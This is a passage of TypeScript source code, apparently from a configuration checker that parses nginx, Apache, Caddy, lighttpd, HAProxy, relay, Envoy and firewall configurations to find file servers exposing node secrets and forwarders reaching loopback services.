        const glob = /[*?[{]/.test(target);
        const files = glob ? [...(view.written?.() ?? [])].filter(p => globRegExp(target).test(p)) : [target];
        return files.flatMap(f => {
            const text = view.text?.(f);
            return text === undefined
                ? []
                : caddyExpanded(
                      text.split(/\r?\n/).map(t => t.replace(/(^|\s)#.*$/, "")),
                      view,
                      depth + 1,
                  );
        });
    });
}

/** The nginx prefix relative `root`/`alias` paths resolve from (AL2023's and Fedora's package: --prefix=/usr/share/nginx). */
const NGINX_PREFIX = "/usr/share/nginx";
/**
 * The file servers a web server's configuration sets up, each with the directory it serves (undefined when the pack
 * cannot resolve it: a variable) and where it listens ([]: the server's default, every address), judged as every node
 * file server is (listenerOpenings: node secrets at, above or inside it, or a directory it cannot know, beyond
 * loopback; its workers' user is not read: a root-run server's files, fail closed):
 * - nginx (nginxServers): `root` and `alias` (ngx_http_core_module), relative to the prefix; `listen` (default *:80);
 * - Apache httpd: `DocumentRoot` and `Alias`/`AliasMatch` (mod_alias) on its `Listen` addresses with the main
 *   httpd.conf's (the package's `Listen 80`, every address), or its `<VirtualHost>`'s;
 * - lighttpd: `server.document-root` and `alias.url` on `server.bind` and each `$SERVER["socket"]` (lighttpd docs
 *   "server.bind": default every address), or on the socket whose conditional holds them;
 * - Caddy: each site's roots on its own binds (imports of written files spliced in: caddyExpanded).
 * Servers a packaged configuration includes are judged once the script ends (viewingJudge's settled).
 * Only the servers whose directory matters are returned (node secrets, or unknown).
 */
function configFileServers(text: string, view: ScriptView = NO_VIEW): Listener[] {
    const lines = configLines(text);
    const resolve = (dir: string, base: string) =>
        /[$%]/.test(dir) ? undefined : posix.resolve(base, dir.replace(/^["']|["']$/g, ""));
    const out: Listener[] = [];
    for (const server of nginxServers(text))
        for (const root of server.roots)
            out.push({
                server: `nginx root ${root}`,
                binds: server.listens,
                serves: { files: resolve(root, NGINX_PREFIX) },
            });
    // Apache docs "Listen": httpd listens on every Listen of its configuration, the main httpd.conf's and those of the
    // files it includes (AL2023's packaged httpd.conf: `Listen 80`, every address; `IncludeOptional conf.d/*.conf`):
    // a text other than the main file adds its Listens to the main file's, user data's whole httpd.conf or else the
    // package's. A DocumentRoot/Alias inside `<VirtualHost ADDR:PORT ...>` (Apache docs "VirtualHost") is served
    // on the virtual host's addresses only (`*`/`_default_`: every address).
    const mainHttpd = view.text?.(HTTPD_CONF);
    const ownListens = directiveValues(lines, LISTENS.httpd);
    const httpdListens =
        mainHttpd === text
            ? ownListens
            : mainHttpd === undefined || ownListens.length === 0
              ? []
              : [...ownListens, ...directiveValues(configLines(mainHttpd), LISTENS.httpd)];
    let vhost: string[] | undefined;
    const httpdBinds = lines.map(l => {
        const open = /^\s*<VirtualHost\s+([^>]*)>/i.exec(l);
        if (open) vhost = open[1].trim().split(/\s+/);
        const binds = vhost === undefined ? httpdListens : vhost.some(a => /^(\*|_default_)(:|$)/.test(a)) ? [] : vhost;
        if (/^\s*<\/VirtualHost\s*>/i.test(l)) vhost = undefined;
        return binds;
    });
    for (const [i, l] of lines.entries())
        for (const m of l.matchAll(
            /^\s*(DocumentRoot)\s+("[^"]*"|\S+)|^\s*(Alias|AliasMatch)\s+("[^"]*"|\S+)\s+("[^"]*"|\S+)/gi,
        )) {
            const dir = m[2] ?? m[5];
            out.push({
                server: `Apache httpd ${m[0].trim()}`,
                binds: httpdBinds[i],
                serves: { files: resolve(dir, "/etc/httpd") },
            });
        }
    // mod_rewrite (Apache docs "RewriteRule", Substitution: "A full filesystem path to a resource": in server context
    // one whose first segment exists at the root of the file system is served as that file): the substitution's
    // literal directory up to its first variable or back-reference; one starting with either is unknown.
    for (const [i, l] of lines.entries())
        for (const m of l.matchAll(/^\s*RewriteRule\s+("[^"]*"|\S+)\s+("[^"]*"|\S+)/gi)) {
            const target = m[2].replace(/^"|"$/g, "");
            if (!target.startsWith("/") && !/^[$%]/.test(target)) continue;
            const literal = target.replace(/[$%].*$/s, "");
            out.push({
                server: `Apache httpd ${m[0].trim()}`,
                binds: httpdBinds[i],
                serves: {
                    files:
                        literal === ""
                            ? undefined
                            : posix.resolve(literal.endsWith("/") ? literal : posix.dirname(literal)),
                },
            });
        }
    // Caddy (Caddy docs "Caddyfile directives": `root [<matcher>] <path>`, "Sets the root path of the site, used by
    // ... file_server"; `file_server [<matcher>] [browse] { root <path> }`): each site block's roots, on the block's
    // address (its port on every address, Caddy's default; `bind` narrows it), when the file has a file_server. A
    // placeholder root is unknown. "Comments start with # and proceed until the end of the line" (Caddy docs
    // "Caddyfile Concepts", a # starting a token); a single site may go without braces (the same page), its
    // directives at depth 0. `import FILE|GLOB|SNIPPET` (Caddy docs "import": "Includes a snippet or file, replacing
    // this token with the contents"): a snippet `(name) { ... }` of this file is read where it is defined; a file user data
    // wrote whole is spliced in (caddyExpanded); any other may set any root, and a file_server, in the site importing
    // it, or add sites at the top level (fail closed).
    const caddyLines = caddyExpanded(
        lines.map(l => l.replace(/(^|\s)#.*$/, "")),
        view,
    );
    const snippets = new Set(caddyLines.flatMap(l => /^\s*\(([^()\s]+)\)\s*\{?\s*$/.exec(l)?.[1] ?? []));
    const caddyImport = (l: string) => {
        const m = /^\s*import\s+(\S+)(\s+\S.*)?$/.exec(l);
        return m !== null && !(snippets.has(m[1]) && m[2] === undefined);
    };
    // At the top level only an import of a path or glob, a line no program's import statement is (`import x from
    // 'y'`, `import os`, `import "fmt"`, `import java.util.List;`).
    const topImport = (l: string) =>
        /^import\s+[^\s"'`;{}()]*[/*][^\s"'`;{}()]*(\s+[^\s;"'`{}()=]+)*\s*$/.test(l.trim()) && !/\sfrom\s/.test(l);
    let importDepth = 0;
    const imports = caddyLines.some(l => {
        const found = importDepth > 0 ? caddyImport(l) : topImport(l);
        importDepth += (l.match(/\{/g) ?? []).length - (l.match(/\}/g) ?? []).length;
        return found;
    });
    if (imports || caddyLines.some(l => /^\s*file_server\b/.test(l))) {
        const addresses = (header: string) =>
            header
                .replace(/\{\s*$/, "")
                .split(/[\s,]+/)
                .filter(a => a !== "")
                .map(a => {
                    const port = /:(\d+)$/.exec(a.replace(/^[a-z]+:\/\//i, ""))?.[1];
                    return `:${port ?? (/^http:/i.test(a) ? "80" : "443")}`;
                });
        const bindsOf = (l: string) =>
            directiveValues([l], /^\s*bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/));
        // Without braces, the first line's addresses are the one site's (every address when the pack cannot tell).
        const first = caddyLines.find(l => l.trim() !== "");
        const bare =
            first !== undefined &&
            !/\{/.test(first) &&
            /^\s*(:\d+|[a-z]+:\/\/|[\w.-]+\.[a-z]+|localhost)\b/i.test(first);
        // Each site block's own `bind` (Caddy docs "bind": a site directive, "Overrides the interface to which the
        // server's socket should bind"), else the global options block's `default_bind`, else its addresses (their
        // ports on every address); outside any site (a top-level import) every address.
        const sites: { addresses: string[]; binds: string[] }[] = bare
            ? [{ addresses: addresses(first), binds: [] }]
            : [];
        const defaults: string[] = [];
        let depth = 0;
        let site: number | undefined = bare ? 0 : undefined;
        let global = false;
        const siteOf = caddyLines.map(l => {
            if (depth === 0 && /\{\s*$/.test(l)) {
                global = l.replace(/\{\s*$/, "").trim() === "";
                site = global ? undefined : sites.push({ addresses: addresses(l), binds: [] }) - 1;
            }
            const at = site;
            if (global)
                defaults.push(
                    ...directiveValues([l], /^\s*default_bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/)),
                );
            else if (at !== undefined) sites[at].binds.push(...bindsOf(l));
            depth += (l.match(/\{/g) ?? []).length - (l.match(/\}/g) ?? []).length;
            if (depth === 0 && !bare) {
                site = undefined;
                global = false;
            }
            return at;
        });
        for (const [i, l] of caddyLines.entries()) {
            const root = /^\s*root\s+(?:(?:\*|\/\S*|@\S+)\s+)?([^\s{};]+)\s*$/.exec(l);
            const at = siteOf[i];
            const imported = at === undefined ? topImport(l) : caddyImport(l);
            const own = at === undefined ? undefined : sites[at];
            if (root || imported)
                out.push({
                    server: `Caddy ${l.trim()}`,
                    binds:
                        own === undefined
                            ? []
                            : own.binds.length > 0
                              ? own.binds
                              : defaults.length > 0
                                ? defaults
                                : own.addresses,
                    serves: {
                        files:
                            !root || /[{}]/.test(root[1])
                                ? undefined
                                : posix.resolve("/", root[1].replace(/^["']|["']$/g, "")),
                    },
                });
        }
    }
    // lighttpd docs "server.bind" (default every address) and "Configuration File Syntax": `$SERVER["socket"] ==
    // "ip:port" { ... }` opens one more socket, beside server.bind's; what its block sets applies there only.
    const serverBinds = directiveValues(lines, /^\s*server\.bind\s*:?=\s*"([^"]*)"/);
    const lighttpdBinds =
        serverBinds.length === 0
            ? []
            : [...serverBinds, ...directiveValues(lines, /\$SERVER\["socket"\]\s*==\s*"([^"]*)"/)];
    const joined = lines.join("\n");
    /** The innermost socket conditional around `index` of the joined text, if any. */
    const socketAt = (index: number) => {
        const open: (string | undefined)[] = [];
        for (const m of joined.slice(0, index).matchAll(/\$SERVER\["socket"\]\s*==\s*"([^"]*)"\s*\{|\{|\}/g))
            if (m[0] === "}") open.pop();
            else open.push(m[1]);
        return [...open].reverse().find(s => s !== undefined);
    };
    const lighttpd: [string, string, string | undefined, readonly string[]][] = [
        ...[...joined.matchAll(/(?:^|\n)\s*server\.document-root\s*[+:]?=\s*([^\n]*)/g)].map(
            (m): [string, string, string | undefined, readonly string[]] => [
                "server.document-root",
                m[1].trim(),
                lighttpdValue(m[1], joined.slice(0, m.index)),
                [socketAt(m.index) ?? []].flat(),
            ],
        ),
        ...[...joined.matchAll(/(?:^|\n)\s*alias\.url\s*[+:]?=\s*\(([^)]*)\)/g)].flatMap(list =>
            [...list[1].matchAll(/=>\s*((?:"(?:\\.|[^"\\])*"|[^,"])+)/g)].map(
                (a): [string, string, string | undefined, readonly string[]] => [
                    "alias.url",
                    a[1].trim(),
                    lighttpdValue(a[1], joined.slice(0, list.index)),
                    [socketAt(list.index) ?? []].flat(),
                ],
            ),
        ),
    ];
    // `include_shell "command"` (lighttpd docs "Configuration File Syntax": "read configuration from output of a
    // command"): configuration the pack cannot read, any document root.
    for (const m of joined.matchAll(/(?:^|\n)\s*include_shell\s+([^\n]*)/g))
        lighttpd.push(["include_shell", m[1].trim(), undefined, []]);
    // `include VALUE` (same docs: "include, relative to dirname of main config file", /etc/lighttpd here; globs
    // allowed): a file user data changed in a way the pack cannot compute (a download, a copy, an edit), or a value it
    // cannot compute, may set any document root (fail closed, as include_shell). A file it wrote whole is read as
    // itself; one it never touched is the package's.
    // Only lighttpd's value syntax (a quoted string or a variable, `+` joined): nginx's `include mime.types;` and
    // httpd's `Include conf.d/*.conf` are theirs.
    for (const m of joined.matchAll(/(?:^|\n)\s*include\s+([^\n]*)/g)) {
        if (!/^\s*("|[A-Za-z_][\w.]*\s*(\+|$))/.test(m[1])) continue;
        const value = lighttpdValue(m[1], joined.slice(0, m.index));
        if (includeUnknown(value === undefined ? undefined : posix.resolve("/etc/lighttpd", value), view) !== undefined)
            lighttpd.push(["include", m[1].trim(), undefined, [socketAt(m.index) ?? []].flat()]);
    }
    for (const [directive, written, dir, socket] of lighttpd)
        out.push({
            // The value as written when it is no plain string, with what it computes to.
            server: `lighttpd ${directive} ${dir === undefined ? written : written === `"${dir}"` ? dir : `${written} (${dir})`}`,
            binds: socket.length > 0 ? socket : lighttpdBinds,
            serves: { files: dir === undefined ? undefined : resolve(dir, "/") },
        });
    return out.filter(l => "files" in l.serves && (l.serves.files === undefined || holdsNodeSecrets(l.serves.files)));
}

/**
 * A lighttpd configuration value as lighttpd computes it (lighttpd docs "Configuration File Syntax": `VALUE : (
 * <string> | <integer> | ... | VALUE [ + VALUE ]*)`, strings in double quotes; `var.NAME = VALUE` sets a variable "computed
 * when config is read", used by its name with or without `var.`, `+=` appending), the variables being those `before`
 * (the configuration's text up to the value) sets; undefined when the pack cannot compute it: `env.NAME` (the
 * server's environment), a variable set elsewhere (the shipped lighttpd.conf's, var.CWD, var.PID), an array or
 * anything else: fail closed.
 */
function lighttpdValue(expression: string, before: string): string | undefined {
    const variables = new Map<string, string | undefined>();
    for (const m of before.matchAll(/(?:^|\n)\s*var\.([\w.-]+)\s*([+:]?=)\s*([^\n]*)/g)) {
        const value = lighttpdTerms(m[3], variables);
        const was = m[2] === "+=" ? variables.get(m[1]) : "";
        variables.set(m[1], was === undefined || value === undefined ? undefined : was + value);
    }
    return lighttpdTerms(expression, variables);
}
function lighttpdTerms(expression: string, variables: ReadonlyMap<string, string | undefined>): string | undefined {
    // A `#` outside a string comments the rest of the line out.
    const code = /^((?:[^"#]|"(?:\\.|[^"\\])*")*)/.exec(expression)?.[1] ?? "";
    const terms = code.trim().split(/\s*\+\s*(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    let value = "";
    for (const term of terms) {
        const quoted = /^"((?:\\.|[^"\\])*)"$/.exec(term);
        const name = /^(?:var\.)?([A-Za-z_][\w.-]*)$/.exec(term);
        const part = quoted
            ? quoted[1].replace(/\\(.)/g, "$1")
            : /^\d+$/.test(term)
              ? term
              : name && !term.startsWith("env.")
                ? variables.get(name[1])
                : undefined;
        if (part === undefined) return undefined;
        value += part;
    }
    return value;
}

/**
 * nginx's directives as its parser reads them (nginx docs, "Configuration file's structure": simple directives end
 * with `;`, block directives hold others in braces; `#` comments to the end of the line; quoted words).
 */
interface NginxDirective {
    name: string;
    args: string[];
    block?: NginxDirective[];
}
function nginxDirectives(text: string): NginxDirective[] {
    const root: NginxDirective[] = [];
    const stack: NginxDirective[][] = [root];
    let words: string[] = [];
    const tokens = text.matchAll(/#[^\n]*|"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)'|([{};])|[^\s{};"'#]+/g);
    for (const m of tokens) {
        if (m[0].startsWith("#")) continue;
        const top = stack[stack.length - 1];
        if (m[3] === ";") {
            if (words.length > 0) top.push({ name: words[0], args: words.slice(1) });
            words = [];
        } else if (m[3] === "{") {
            const block: NginxDirective[] = [];
            top.push({ name: words[0] ?? "", args: words.slice(1), block });
            stack.push(block);
            words = [];
        } else if (m[3] === "}") {
            if (stack.length > 1) stack.pop();
            words = [];
        } else words.push(m[1] ?? m[2] ?? m[0]);
    }
    return root;
}

/**
 * nginx's servers, http{} and stream{} alike (ngx_http_core_module and ngx_stream_core_module `server`, `listen`; no
 * `listen` is *:80), each with the upstreams its proxy_pass and grpc_pass directives name (ngx_http_proxy_module
 * proxy_pass: "the address can be specified as a domain name or IP address, and an optional port ... or as a
 * UNIX-domain socket path specified after the word "unix" and enclosed in colons"; "If a domain name resolves to
 * several addresses ... In addition, an address can be specified as a server group", an `upstream` block;
 * ngx_stream_proxy_module proxy_pass: an address without a scheme), and the directories its `root` and `alias`
 * directives serve files of (ngx_http_core_module root "Sets the root directory for requests", alias "Defines a
 * replacement for the specified location"; server and location levels, and http{}'s, which servers inherit). A pass
 * or root outside any server block is a fragment a server elsewhere includes (AL2023's default server on port 80
 * includes /etc/nginx/default.d/*.conf): where it listens is unknown ([]: every address).
 */
function nginxServers(
    text: string,
): { listens: string[]; passes: string[]; roots: string[]; groups: Map<string, string[]> }[] {
    const top = nginxDirectives(text);
    const groups = new Map<string, string[]>();
    const servers: { listens: string[]; passes: string[]; roots: string[]; groups: Map<string, string[]> }[] = [];
    const outside = { listens: [] as string[], passes: [] as string[], roots: [] as string[], groups };
    const ROOTS = /^(root|alias)$/;
    const collect = (ds: readonly NginxDirective[], name: RegExp, into: string[]): void => {
        for (const d of ds) {
            if (name.test(d.name) && d.args[0] !== undefined) into.push(d.args[0]);
            if (d.block && d.name !== "server") collect(d.block, name, into);
        }
    };
    const walk = (ds: readonly NginxDirective[], inherited: readonly string[]): void => {
        const here = [
            ...inherited,
            ...ds.filter(d => d.name === "root" && d.args[0] !== undefined).map(d => d.args[0]),
        ];
        for (const d of ds) {
            if (d.name === "upstream" && d.block)
                groups.set(
                    d.args[0] ?? "",
                    d.block.filter(s => s.name === "server").map(s => s.args[0] ?? ""),
                );
            else if (d.name === "server" && d.block) {
                const server = {
                    listens: d.block.filter(l => l.name === "listen").map(l => l.args[0] ?? ""),
                    passes: [] as string[],
                    roots: [...here] as string[],
                    groups,
                };
                collect(d.block, /^(proxy_pass|grpc_pass)$/, server.passes);
                collect(d.block, ROOTS, server.roots);
                servers.push(server);
            } else if (/^(proxy_pass|grpc_pass)$/.test(d.name) && d.args[0] !== undefined)
                outside.passes.push(d.args[0]);
            else if (d.block) walk(d.block, here);
            // A root or alias outside any server block (in http{}, or a location of a default.d fragment) serves on
            // servers' addresses the pack does not know. One at the top of a file is no nginx configuration's.
            else if (ROOTS.test(d.name) && d.args.length === 1 && ds !== top) outside.roots.push(d.args[0]);
        }
    };
    walk(top, []);
    return outside.passes.length > 0 || outside.roots.length > 0 ? [...servers, outside] : servers;
}

/**
 * Apache httpd's proxy targets (mod_proxy ProxyPass/ProxyPassMatch "[path] !|url", a unix socket as
 * `unix:/path|http://host/`; mod_proxy_balancer BalancerMember url; mod_rewrite RewriteRule with the [P] flag): each
 * line and the URL it names.
 */
function httpdProxyTargets(lines: readonly string[]): { line: string; url: string }[] {
    return lines.flatMap(line => {
        const words = line.trim().split(/\s+/);
        if (/^ProxyPass(Match)?$/i.test(words[0]) || /^BalancerMember$/i.test(words[0]))
            return words
                .slice(1)
                .filter(a => /:\/\//.test(a))
                .map(url => ({ line, url }));
        if (/^RewriteRule$/i.test(words[0]) && /\[([^\]]*,)?\s*(P|proxy)\s*(,[^\]]*)?\]/i.test(line))
            return [{ line, url: words[2] ?? "" }];
        return [];
    });
}

/**
 * The end on this instance's loopback an upstream address names: a TCP port of a loopback host (loopbackOnly; Go's
 * empty host `:PORT` dials the local system; the unspecified address, which Linux connects over lo:
 * connectsToThisHost), or a unix socket path (`unix:/path`, `/path`); `byDefault` the port a scheme implies. Neither
 * port nor socket: a loopback end the pack cannot tell (a variable, an unknown port). Undefined: another host.
 */
interface LoopbackEnd {
    port?: number;
    socket?: string;
}
const SCHEME_PORTS: Record<string, number> = { http: 80, ws: 80, h2c: 80, grpc: 80, https: 443, wss: 443, grpcs: 443 };
function loopbackEnd(address: string, byDefault?: number): LoopbackEnd | undefined {
    const raw = address.trim().replace(/^["']|["']$/g, "");
    const scheme = /^([a-z][a-z0-9+.-]*):\/\//i.exec(raw)?.[1].toLowerCase();
    const rest = scheme === undefined ? raw : raw.slice(scheme.length + 3);
    const socket = /^(?:unix:|unix\/|unix@)?(\/[^:|]*)/.exec(
        rest.startsWith("unix:") ? rest : rest.replace(/^unix(?=\/\/)/, "unix"),
    );
    if (/^(unix[:@/]|\/)/.test(rest) && socket) return { socket: posix.normalize(socket[1]) };
    const authority = rest.split("/")[0];
    if (/[$%{]/.test(authority)) return {};
    const m = /^\[([^\]]*)\](?::(\d*))?$/.exec(authority) ?? /^([^:]*)(?::(\d*))?$/.exec(authority);
    const [host, port] = m ? [m[1], m[2]] : [authority, undefined];
    if (host !== "" && !loopbackOnly([host]) && !connectsToThisHost(host)) return undefined;
    const known = port !== undefined && port !== "" ? Number(port) : (byDefault ?? SCHEME_PORTS[scheme ?? ""]);
    return known === undefined ? {} : { port: known };
}

/** The loopback ends a listener's or forwarder's binds name, each a socket or a port (unknown: none given). */
function boundEnds(binds: readonly string[]): LoopbackEnd[] {
    return binds.map(b => {
        const a = b
            .trim()
            .replace(/^["']|["']$/g, "")
            .replace(/^ipv[46]@/i, "");
        if (/^(unix:|unix@)?\//.test(a)) return { socket: posix.normalize(a.replace(/^unix[:@]/, "")) };
        // A bare IPv6 address (::1, 0::1) names no port: its last group is not one.
        const port = /^\d+$/.test(a)
            ? a
            : (/^\[[^\]]*\]:(\d+)$/.exec(a)?.[1] ?? (/:.*:/.test(a) ? undefined : /:(\d+)$/.exec(a)?.[1]));
        return port === undefined ? {} : { port: Number(port) };
    });
}

/** Whether a forwarder's loopback end reaches something bound at `binds`: an unknown end reaches anything there. */
function reaches(to: LoopbackEnd, binds: readonly string[]): boolean {
    if (to.socket !== undefined) return boundEnds(binds).some(e => e.socket === to.socket);
    if (to.port !== undefined)
        return boundEnds(binds).some(e => e.socket === undefined && (e.port === undefined || e.port === to.port));
    return true;
}

/**
 * A forwarder: a process or rule that accepts connections where it listens ([]: its default, every address) and
 * connects each to a fixed end on this instance's loopback.
 */
interface Forwarder {
    forwarder: string;
    listens: readonly string[];
    to: LoopbackEnd;
}

/**
 * Forwarders a configuration sets up, one reader per format (as forwardProxies reads the same files for the host a
 * client names): nginx (nginxServers; an upstream group's servers, port 80 by default), Apache httpd
 * (httpdProxyTargets; `Listen`, httpd.conf's default Listen 80), HAProxy (`server NAME ADDR[:PORT]` in a backend or
 * listen section, "unix@" or a path a socket, no port the client's own; `bind`), Caddy (a Caddyfile's reverse_proxy
 * upstreams and `to`, `unix//path` a socket, listening on every interface unless `bind`: Caddy docs, "reverse_proxy",
 * "bind"; JSON `dial` and `listen`), relays (stunnel, rinetd, xinetd `redirect`: relayForwarders), Envoy's static
 * listeners and Traefik's servers (structuredForwarders), iptables-save rules (iptablesForwarder, each `-A` line in
 * the table its `*TABLE` header opens: iptables-restore(8) reads that format), nftables rules (nftForwarders) and
 * firewalld's forward ports (firewalldForwarders: a zone file's `<forward-port>`).
 */
function configForwarders(text: string): Forwarder[] {
    const lines = configLines(text);
    const values = (re: RegExp) => directiveValues(lines, re);
    const out: Forwarder[] = [];
    const add = (forwarder: string, listens: readonly string[], to: LoopbackEnd | undefined) => {
        if (to) out.push({ forwarder, listens, to });
    };
    for (const server of nginxServers(text))
        for (const pass of server.passes) {
            const host = pass.replace(/^[a-z0-9+.-]+:\/\//i, "").split(/[/:]/)[0];
            const group = server.groups.get(host);
            for (const address of group ?? [pass])
                add(`nginx proxy_pass ${pass}`, server.listens, loopbackEnd(address, group ? 80 : undefined));
        }
    const httpdListens = values(LISTENS.httpd);
    for (const { line, url } of httpdProxyTargets(lines))
        add(`Apache httpd ${line.trim()}`, httpdListens, loopbackEnd(url.replace(/^unix:([^|]*)\|.*$/i, "unix:$1")));
    if (lines.some(l => /^\s*(frontend|backend|listen|defaults)\b/.test(l))) {
        const binds = values(LISTENS.haproxy).flatMap(b => b.split(","));
        for (const l of lines) {
            const m = /^\s*server\s+\S+\s+([^\s;{]+)(?![^;{]*[;{])/.exec(l);
            if (m)
                add(
                    `HAProxy ${l.trim()}`,
                    binds,
                    loopbackEnd(m[1].replace(/^ipv[46]@/i, "").replace(/^unix@/i, "unix:")),
                );
        }
    }
    const caddyBinds = values(/^\s*(?:default_)?bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/));
    for (const l of lines) {
        const m = /^\s*(reverse_proxy|to)\s+([^{}\n]+)/.exec(l);
        if (!m || (m[1] === "to" && !text.includes("reverse_proxy"))) continue;
        for (const upstream of m[2].trim().split(/\s+/))
            if (!/^[/@*]/.test(upstream))
                add(`Caddy ${l.trim()}`, caddyBinds, loopbackEnd(upstream.replace(/^unix\/\//, "unix:/")));
    }
    const jsonListens = values(/"listen"\s*:\s*\[([^\]]*)\]/).flatMap(v =>
        [...v.matchAll(/"([^"]*)"/g)].map(q => q[1]),
    );
    for (const dial of values(/"dial"\s*:\s*"([^"]*)"/)) add(`Caddy "dial": "${dial}"`, jsonListens, loopbackEnd(dial));
    let table = "filter";
    for (const l of lines) {
        table = /^\s*\*(\w+)\s*$/.exec(l)?.[1] ?? table;
        const words = l.trim().split(/\s+/);
        if (/^\s*-[AI]\s/.test(l))
            out.push(
                ...iptablesForwarder(words.some(w => /^(-t|--table)(=|$)/.test(w)) ? words : ["-t", table, ...words]),
            );
        out.push(...nftForwarders(l));
    }
    return [...out, ...relayForwarders(text), ...structuredForwarders(text), ...firewalldForwarders(text)];
}

/** A relay's end given as HOST and PORT (a service name or none: an end the pack cannot tell), on loopback or not. */
const relayEnd = (host: string, port: string | undefined) =>
    port !== undefined && /^\d+$/.test(port)
        ? loopbackEnd(`${/:/.test(host) ? `[${host.replace(/^\[|\]$/g, "")}]` : host}:${port}`)
        : loopbackEnd(host) && {};

/**
 * TCP relays configured in a file:
 * - stunnel (stunnel(8) "SERVICE-LEVEL OPTIONS"): each `[service]` accepts on `accept = [host:]port` ("If no host
 *   specified, defaults to all IP addresses for the local host") and connects to each `connect = [host:]port` ("If no
 *   host is specified, the host defaults to localhost"), or to `redirect = [host:]port` when a client's certificate
 *   fails; `client = yes` changes only which side speaks TLS;
 * - rinetd (rinetd(8) "FORWARDING RULES": "bindaddress bindport connectaddress connectport [options...]", 0.0.0.0 every
 *   address, service names for ports), in /etc/rinetd.conf or the file `rinetd -c` reads;
 * - xinetd's `redirect = HOST PORT` (xinetd.conf(5): the service's connections are relayed there instead of running
 *   its server), listening on the service's `bind`/`interface` (every address by default) and `port`.
 */
function relayForwarders(text: string): Forwarder[] {
    const out: Forwarder[] = [];
    const add = (forwarder: string, listens: readonly string[], to: LoopbackEnd | undefined) => {
        if (to) out.push({ forwarder, listens, to });
    };
    const services: { name: string; accept: string[]; connect: string[] }[] = [];
    for (const l of configLines(text)) {
        const header = /^\s*\[([^\]]*)\]\s*$/.exec(l);
        if (header) services.push({ name: header[1], accept: [], connect: [] });
        const option = /^\s*(accept|connect|redirect)\s*=\s*(\S+)\s*$/i.exec(l);
        const service = services.at(-1);
        if (option && service) service[/^accept$/i.test(option[1]) ? "accept" : "connect"].push(option[2]);
    }
    for (const { name, accept, connect } of services.filter(v => v.accept.length > 0)) {
        const listens = accept.map(a => (/^\d+$/.test(a) ? `0.0.0.0:${a}` : a));
        for (const c of connect) {
            const m = /^(.*):(\w+)$/.exec(c);
            add(`stunnel [${name}] connect = ${c}`, listens, m ? relayEnd(m[1], m[2]) : relayEnd("localhost", c));
        }
    }
    const host = (h: string) => (isAddress(h) && !isHostPort(h)) || /^(localhost|[\w-]+(\.[\w-]+)+)$/i.test(h);
    const port = /^(\d+|[a-z][\w-]*)(\/(tcp|udp))?$/i;
    for (const l of configLines(text)) {
        const f = l.trim().split(/\s+/);
        const rule = f.length === 4 || (f.length > 4 && f[4].startsWith("["));
        if (rule && host(f[0]) && port.test(f[1]) && host(f[2]) && port.test(f[3]))
            add(
                `rinetd ${l.trim()}`,
                [`${f[0]}:${f[1].replace(/\/.*$/, "")}`],
                relayEnd(f[2], f[3].replace(/\/.*$/, "")),
            );
    }
    for (const { name, get } of xinetdServices(text)) {
        const [host, to] = get("redirect");
        const binds = [...get("bind"), ...get("interface")];
        const servicePort = get("port")[0];
        const listens = (binds.length > 0 ? binds : ["0.0.0.0"]).map(b => (servicePort ? `${b}:${servicePort}` : b));
        if (host !== undefined)
            add(`xinetd service ${name} redirect = ${host} ${to ?? ""}`, listens, relayEnd(host, to));
    }
    return out;
}

/** Every value at `key` in a parsed document, at any depth. */
const valuesAt = (v: unknown, key: string): unknown[] =>
    Array.isArray(v)
        ? v.flatMap(x => valuesAt(x, key))
        : v && typeof v === "object"
          ? Object.entries(v).flatMap(([k, x]) => [...(k === key ? [x] : []), ...valuesAt(x, key)])
          : [];

/** The documents of a YAML (JSON being YAML) or TOML text, none when it parses as neither. */
function structuredDocs(text: string): unknown[] {
    try {
        const yaml = parseAllDocuments(text);
        const all = Array.isArray(yaml) ? yaml : [yaml];
        if (all.every(d => d.errors.length === 0)) return all.map(d => d.toJS());
    } catch {
        // not YAML: TOML below
    }
    try {
        return [parseToml(text)];
    } catch {
        return [];
    }
}

/** An Envoy address (config.core.v3.Address) as a bind or end: a socket_address's `address[:port_value]`, a `pipe` path. */
function envoySocket(address: unknown): string | undefined {
    const pipe = obj(obj(address).pipe).path;
    if (typeof pipe === "string") return `unix:${pipe}`;
    const { address: host, port_value: port } = obj(obj(address).socket_address);
    if (host === undefined) return undefined;
    const h = /:/.test(String(host)) ? `[${String(host)}]` : String(host);
    return port === undefined ? h : `${h}:${String(port)}`;
}

/** The endpoints of a ClusterLoadAssignment (a cluster's load_assignment, or an EDS resource): its lb_endpoints. */
const envoyAssignmentEnds = (assignment: unknown) =>
    list(obj(assignment).endpoints)
        .flatMap(e => list(obj(e).lb_endpoints))
        .map(e => envoySocket(obj(obj(e).endpoint).address))
        .flatMap(e => (e === undefined ? [] : [e]));

/**
 * Envoy's listeners joined to its clusters (Envoy docs, "Configuration: Static"): each listener listens on its
 * `address` (socket_address address and port_value) and its additional_addresses, and sends connections to the
 * clusters its filters name (tcp_proxy `cluster`, a route's `cluster` or weighted_clusters; none read, or a route
 * whose cluster the request names: every cluster), each cluster to its endpoints (load_assignment lb_endpoints, v2
 * `hosts`; socket_address or a `pipe` path), and to those `edsEnds` gives for it (its EDS source's:
 * envoyBootstrapForwarders), undefined for endpoints the pack cannot read: any loopback end (`{}`).
 */
function envoyForwarders(
    listeners: readonly unknown[],
    clusterList: readonly unknown[],
    edsEnds: (cluster: unknown) => string[] | undefined = () => [],
): Forwarder[] {
    const clusters = clusterList.map(c => {
        const eds = edsEnds(c);
        return {
            name: String(obj(c).name ?? ""),
            ends: [
                ...envoyAssignmentEnds(obj(c).load_assignment),
                ...list(obj(c).hosts).flatMap(h => envoySocket(h) ?? []),
                ...(eds ?? []),
            ],
            unread: eds === undefined,
        };
    });
    const out: Forwarder[] = [];
    for (const listener of listeners) {
        // A route choosing its cluster by request (RouteAction cluster_header: "Envoy will determine the cluster to
        // route to by reading the value of the HTTP header named by cluster_header from the request headers"; a
        // cluster_specifier_plugin's choice alike) reaches whichever cluster the client names: every one.
        const clientChosen = ["cluster_header", "cluster_specifier_plugin", "inline_cluster_specifier_plugin"].some(
            key => valuesAt(listener, key).length > 0,
        );
        const named = [
            ...valuesAt(listener, "cluster"),
            ...valuesAt(listener, "clusters").flatMap(w => list(w).map(x => obj(x).name)),
        ].filter((n): n is string => typeof n === "string");
        // listener.proto Listener.additional_addresses: "The additional addresses the listener should listen on".
        const listens = [
